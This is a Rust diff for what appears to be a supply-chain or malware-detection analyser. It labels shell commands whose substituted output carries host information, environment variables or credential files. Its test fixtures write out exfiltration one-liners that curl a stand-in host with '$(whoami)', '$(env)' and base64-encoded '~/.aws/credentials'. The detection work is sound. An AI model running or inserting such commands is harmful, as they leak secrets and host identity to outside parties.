@@ -2036,6 +2036,16 @@ fn at_workdir(fact: &mut CallFact, cwd: &str) {
 /// resolve against `cwd`, the working directory the line starts in, and the folders
 /// its own `cd` commands move into.
 pub fn shell_calls(line: &str, spawner: &CallFact, cwd: Option<&str>) -> Vec<CallFact> {
+    shell_calls_with(line, spawner, cwd, &mut shell::Vars::default())
+}
+
+/// [`shell_calls`] for one line of a script: `vars` holds what earlier lines assigned.
+pub fn shell_calls_with(
+    line: &str,
+    spawner: &CallFact,
+    cwd: Option<&str>,
+    vars: &mut shell::Vars,
+) -> Vec<CallFact> {
     let mut out = Vec::new();
     let mut cwd = cwd.map(str::to_string);
     let at = |cwd: &Option<String>, p: &str| match cwd {
@@ -2044,7 +2054,7 @@ pub fn shell_calls(line: &str, spawner: &CallFact, cwd: Option<&str>) -> Vec<Cal
     };
     // The words carry what the command line was built from (`f"dig {hostname}.x"`).
     let labels = spawner.arg_labels();
-    for cmd in shell::parse(line) {
+    for cmd in shell::parse_with(line, vars) {
         let info = ShellInfo {
             background: cmd.background,
             pipe_to: cmd.pipe_to.clone(),
@@ -2078,12 +2088,16 @@ pub fn shell_calls(line: &str, spawner: &CallFact, cwd: Option<&str>) -> Vec<Cal
         };
         let mut args = vec![text(&program)];
         let file_args = matches!(name, "chmod" | "cp" | "mv");
-        args.extend(cmd.args.iter().map(|a| {
-            if file_args {
+        args.extend(cmd.args.iter().enumerate().map(|(i, a)| {
+            let mut v = if file_args {
                 text(&at(&cwd, a))
             } else {
                 text(a)
+            };
+            for (_, source) in cmd.substituted.iter().filter(|(arg, _)| *arg == i) {
+                v.labels.add(output_labels(source));
             }
+            v
         }));
         let callee = format!("sh.{name}");
         // A program started by its path (`./x`, `~/.x`) is a process the package placed.
@@ -2103,6 +2117,35 @@ pub fn shell_calls(line: &str, spawner: &CallFact, cwd: Option<&str>) -> Vec<Cal
         });
     }
     out
+}
+
+/// Programs whose output names the machine or its user.
+const HOST_INFO_PROGRAMS: &[&str] = &["whoami", "hostname", "id", "uname", "pwd", "logname"];
+/// Programs whose output is (an encoding of) the files they are given.
+const FILE_READERS: &[&str] = &[
+    "cat", "base64", "head", "tail", "xxd", "od", "gzip", "bzip2", "xz", "tar", "zip", "tr",
+];
+
+/// What the output of a command substituted into a word carries (`$(whoami)` is the user
+/// name, `$(cat ~/.aws/credentials | base64)` a secret, `$(env)` the environment).
+fn output_labels(source: &shell::Source) -> Labels {
+    let program = source.program.as_str();
+    if HOST_INFO_PROGRAMS.contains(&program) {
+        return Labels::HOSTINFO;
+    }
+    match program {
+        "env" | "printenv" | "set" if source.args.is_empty() => Labels::ENV,
+        "printenv" if source.args.iter().any(|a| sensitive::is_secret_env(a)) => Labels::SECRET,
+        _ if FILE_READERS.contains(&program)
+            && source
+                .args
+                .iter()
+                .any(|a| sensitive::credential_path(a).is_some()) =>
+        {
+            Labels::SECRET
+        }
+        _ => Labels::default(),
+    }
 }
 
 /// One shell word: quoted when it holds anything the shell would split or expand.
@@ -2306,5 +2349,42 @@ mod tests {
         );
         assert!(facts.calls.iter().all(|c| c.on_load));
         assert!(start.elapsed().as_secs() < 10, "took {:?}", start.elapsed());
+    }
+
+    /// What a substituted command produces labels the argument it is substituted into.
+    #[test]
+    fn substituted_output_labels_the_argument() {
+        let spawner = CallFact {
+            callee: "os.system".into(),
+            kinds: Kinds::default(),
+            args: vec![],
+            kwargs: vec![],
+            receiver: None,
+            line: 1,
+            scope: String::new(),
+            on_load: true,
+            on_main: true,
+            shell: None,
+            indirection: None,
+        };
+        let label_of = |line: &str| {
+            let calls = shell_calls(line, &spawner, None);
+            let curl = calls.iter().find(|c| c.callee == "sh.curl").unwrap();
+            curl.arg_labels()
+        };
+        assert_eq!(
+            label_of("curl https://x.invalid/$(whoami)"),
+            Labels::HOSTINFO
+        );
+        let secret = "K=$(cat ~/.aws/credentials | base64); curl \"https://x.invalid/?k=$K\"";
+        assert_eq!(label_of(secret), Labels::SECRET);
+        assert_eq!(
+            label_of("curl -d \"$(env)\" https://x.invalid"),
+            Labels::ENV
+        );
+        assert_eq!(
+            label_of("curl https://x.invalid/$(cat VERSION)"),
+            Labels::default()
+        );
     }
 }
